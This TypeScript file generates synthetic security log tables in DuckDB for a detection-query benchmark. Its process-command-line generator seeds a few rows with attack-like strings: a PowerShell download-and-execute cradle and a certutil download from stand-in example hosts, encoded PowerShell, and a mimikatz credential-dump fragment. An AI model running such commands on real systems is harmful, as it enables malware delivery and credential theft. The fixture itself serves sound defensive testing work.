/**
 * Made-up log tables for the benchmark, computed by the database itself from row numbers: nothing of them ever is a
 * value in JavaScript. Columns are stored as the engine stores them (times in ticks, dynamic values as JSON text).
 */
import { type DuckDBConnection, DuckDBInstance } from '@duckdb/node-api';

export type Sizes = { process: number; network: number; signin: number; mail: number; device: number };

/** Ticks of 2025-01-15T10:05:00Z, where the tenant's clock starts, and of the month before. */
const endTicks = 638_725_323_000_000_000n;
const monthTicks = 30n * 864_000_000_000n;

export const benchNow = new Date('2025-01-15T10:05:00Z');

/** A number from 0 to `most` - 1 that only depends on the row and the salt. */
const draw = (salt: number, most: number, row = 'n'): string => `(hash(${row} * 64 + ${salt}) % ${most})`;
const pick = (salt: number, values: readonly string[]): string =>
  `list_value(${values.map((value) => `'${value.replaceAll("'", "''")}'`).join(', ')})[1 + ${draw(salt, values.length)}::INT]`;
const time = (rows: number): string => `${endTicks - monthTicks} + n * ${monthTicks / BigInt(rows)}`;

const files = [
  'svchost.exe',
  'chrome.exe',
  'outlook.exe',
  'teams.exe',
  'explorer.exe',
  'msedge.exe',
  'conhost.exe',
  'winword.exe',
  'excel.exe',
  'onedrive.exe',
  'code.exe',
  'git.exe',
  'node.exe',
  'python.exe',
  'java.exe',
  'powershell.exe',
  'cmd.exe',
  'wscript.exe',
  'rundll32.exe',
  'regsvr32.exe',
  'schtasks.exe',
  'wmiprvse.exe',
  'msiexec.exe',
  'taskhostw.exe',
  'searchindexer.exe',
  'runtimebroker.exe',
  'dllhost.exe',
  'spoolsv.exe',
  'lsass.exe',
  'services.exe',
];

const commandLine = `CASE ${draw(9, 1000)}
  WHEN 0 THEN 'powershell.exe -NoProfile -WindowStyle hidden -EncodedCommand ' || md5(n::VARCHAR)
  WHEN 1 THEN 'powershell -c "IEX (New-Object Net.WebClient).DownloadString(''http://cdn' || ${draw(10, 40)} || '.example.net/a.ps1'')"'
  WHEN 2 THEN 'cmd.exe /c certutil -urlcache -f https://files.fabrikam' || ${draw(11, 30)} || '.example.com/x.bin c:\\temp\\x.bin'
  WHEN 3 THEN 'powershell [Convert]::FromBase64String("' || md5(n::VARCHAR) || '")'
  ELSE 'C:\\Program Files\\App' || ${draw(12, 300)} || '\\bin\\worker.exe --session ' || md5(n::VARCHAR) || ' --type=renderer --lang=en-US --profile=Default' || CASE ${draw(13, 20)} WHEN 0 THEN ' --endpoint https://api.svc' || ${draw(14, 200)} || '.contoso.com/v1/jobs' ELSE '' END
  END || CASE WHEN ${draw(15, 50_000)} = 7 THEN ' mimikatz sekurlsa' ELSE '' END`;

const person = (salt: number): string => `'user' || ${draw(salt, 2000)}`;
const address = (salt: number): string => `'198.51.' || ${draw(salt, 200)} || '.' || ${draw(salt + 1, 250)}`;

function tableSql({ process, network, signin, mail, device }: Sizes): Record<string, string> {
  const deviceOf = `${draw(1, 5000)}`;
  return {
    DeviceProcessEvents: `SELECT ${time(process)} AS "Timestamp", ${time(process)} AS "TimeGenerated", 'ProcessCreated' AS "ActionType",
      md5((${deviceOf})::VARCHAR) AS "DeviceId", 'ws-' || ${deviceOf} || '.contoso.com' AS "DeviceName", ${pick(2, files)} AS "FileName",
      'C:\\Windows\\System32\\' || ${draw(3, 400)} AS "FolderPath", sha256((${draw(4, 3000)})::VARCHAR) AS "SHA256", (${draw(5, 60_000)})::BIGINT AS "ProcessId",
      ${commandLine} AS "ProcessCommandLine", 'contoso' AS "AccountDomain", ${person(6)} AS "AccountName", ${person(6)} || '@contoso.com' AS "AccountUpn",
      ${pick(7, files)} AS "InitiatingProcessFileName", 'C:\\Windows\\' || ${draw(16, 50)} AS "InitiatingProcessFolderPath",
      ${pick(7, files)} || ' -k ' || ${draw(17, 500)} AS "InitiatingProcessCommandLine", (${draw(18, 60_000)})::BIGINT AS "InitiatingProcessId",
      ${person(6)} AS "InitiatingProcessAccountName", ${pick(19, files)} AS "InitiatingProcessParentFileName", ${pick(20, ['Medium', 'High', 'System', 'Low'])} AS "ProcessIntegrityLevel",
      n AS "ReportId", '{"Tool":"' || ${draw(21, 1000)} || '","Rank":' || ${draw(22, 100)} || '}' AS "AdditionalFields", 'DeviceProcessEvents' AS "Type" FROM range(${process}) r(n)`,
    DeviceNetworkEvents: `SELECT ${time(network)} AS "Timestamp", ${time(network)} AS "TimeGenerated", ${pick(31, ['ConnectionSuccess', 'ConnectionSuccess', 'ConnectionSuccess', 'ConnectionFailed', 'InboundConnectionAccepted'])} AS "ActionType",
      md5((${deviceOf})::VARCHAR) AS "DeviceId", 'ws-' || ${deviceOf} || '.contoso.com' AS "DeviceName", ${address(32)} AS "RemoteIP", list_value(443, 443, 443, 80, 53, 445, 3389, 8080)[1 + ${draw(34, 8)}::INT]::BIGINT AS "RemotePort",
      'host' || ${draw(35, 3000)} || '.example.com' AS "RemoteUrl", '10.1.' || ${draw(36, 250)} || '.' || ${draw(37, 250)} AS "LocalIP", (49152 + ${draw(38, 16_000)})::BIGINT AS "LocalPort", 'Tcp' AS "Protocol", 'Public' AS "RemoteIPType",
      ${pick(39, files)} AS "InitiatingProcessFileName", ${pick(39, files)} || ' --net ' || ${draw(40, 900)} AS "InitiatingProcessCommandLine", (${draw(41, 60_000)})::BIGINT AS "InitiatingProcessId", ${person(42)} AS "InitiatingProcessAccountName",
      n AS "ReportId", '{"bytes":' || ${draw(43, 100_000)} || '}' AS "AdditionalFields", 'DeviceNetworkEvents' AS "Type" FROM range(${network}) r(n)`,
    SigninLogs: `SELECT ${time(signin)} AS "TimeGenerated", ${person(50)} || '@contoso.com' AS "UserPrincipalName", ${address(51)} AS "IPAddress", ${pick(53, ['0', '0', '0', '0', '50126', '50074'])} AS "ResultType",
      ${pick(54, ['Office 365', 'Azure Portal', 'Teams', 'Graph Explorer'])} AS "AppDisplayName", ${pick(55, ['US', 'DE', 'GB', 'FR', 'RO'])} AS "Location", md5(n::VARCHAR) AS "CorrelationId",
      '[{"displayName":"Require MFA","result":"' || ${pick(56, ['success', 'failure', 'notApplied'])} || '"},{"displayName":"Block legacy","result":"notApplied"},{"displayName":"Compliant device","result":"' || ${pick(57, ['success', 'reportOnlyFailure'])} || '"}]' AS "ConditionalAccessPolicies",
      '{"deviceId":"","operatingSystem":"' || ${pick(58, ['Windows10', 'MacOs', 'Ios', 'Android'])} || '","browser":"Edge ' || ${draw(59, 30)} || '"}' AS "DeviceDetail", (${draw(60, 900)})::BIGINT AS "DurationMs", 'SigninLogs' AS "Type" FROM range(${signin}) r(n)`,
    EmailEvents: `SELECT ${time(mail)} AS "Timestamp", ${time(mail)} AS "TimeGenerated", md5(n::VARCHAR) AS "NetworkMessageId", 'sender' || ${draw(70, 5000)} || '@partner' || ${draw(71, 300)} || '.example.com' AS "SenderFromAddress",
      ${person(72)} || '@contoso.com' AS "RecipientEmailAddress", 'Re: invoice ' || ${draw(73, 9000)} AS "Subject", ${pick(74, ['', '', '', '', '', '', '', 'Phish', 'Malware', 'Phish, Malware'])} AS "ThreatTypes", ${pick(75, ['Delivered', 'Delivered', 'Blocked', 'Junked'])} AS "DeliveryAction", 'EmailEvents' AS "Type" FROM range(${mail}) r(n)`,
    DeviceInfo: `SELECT ${time(device)} AS "Timestamp", ${time(device)} AS "TimeGenerated", md5((${deviceOf})::VARCHAR) AS "DeviceId", 'ws-' || ${deviceOf} || '.contoso.com' AS "DeviceName", ${pick(80, ['Windows11', 'Windows10', 'WindowsServer2022', 'macOS'])} AS "OSPlatform", '10.0.' || ${draw(81, 30_000)} AS "OSVersion",
      ${address(82)} AS "PublicIP", '[{"UserName":"' || ${person(84)} || '"}]' AS "LoggedOnUsers", ${draw(85, 2)} = 1 AS "IsAzureADJoined", 'Workstation' AS "DeviceType", n AS "ReportId", 'DeviceInfo' AS "Type" FROM range(${device}) r(n)`,
  };
}

/** Writes the tables into a new file; memory stays bounded, as a month of millions of rows does not fit into it. */
export async function writeRows(file: string, sizes: Sizes): Promise<void> {
  const instance = await DuckDBInstance.create(file, { memory_limit: '900MB', threads: '2' });
  const connection: DuckDBConnection = await instance.connect();
  await connection.run('CREATE SCHEMA logs');
  for (const [table, sql] of Object.entries(tableSql(sizes)))
    await connection.run(`CREATE TABLE logs."${table}" AS ${sql}`);
  await connection.run('CHECKPOINT');
  connection.closeSync();
  instance.closeSync();
}
